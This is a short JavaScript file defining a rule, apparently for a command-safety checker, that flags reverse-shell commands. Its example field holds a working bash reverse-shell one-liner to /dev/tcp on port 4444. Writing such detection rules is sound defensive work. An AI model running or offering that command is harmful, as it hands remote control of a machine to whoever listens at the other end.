import { rule } from './rule.js';

export const execReverseShell = rule({
  id: 'exec.reverse-shell',
  category: 'remote-code',
  kind: 'run',
  title: 'Giving a shell to whoever is at the other end of a connection.',
  example: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  alternative: 'nc -z localhost 4444',
  when: ({ origin }) => origin === 'reverse-shell',
  message: ({ by }) => `${by} would hand a shell to the network.`,
});
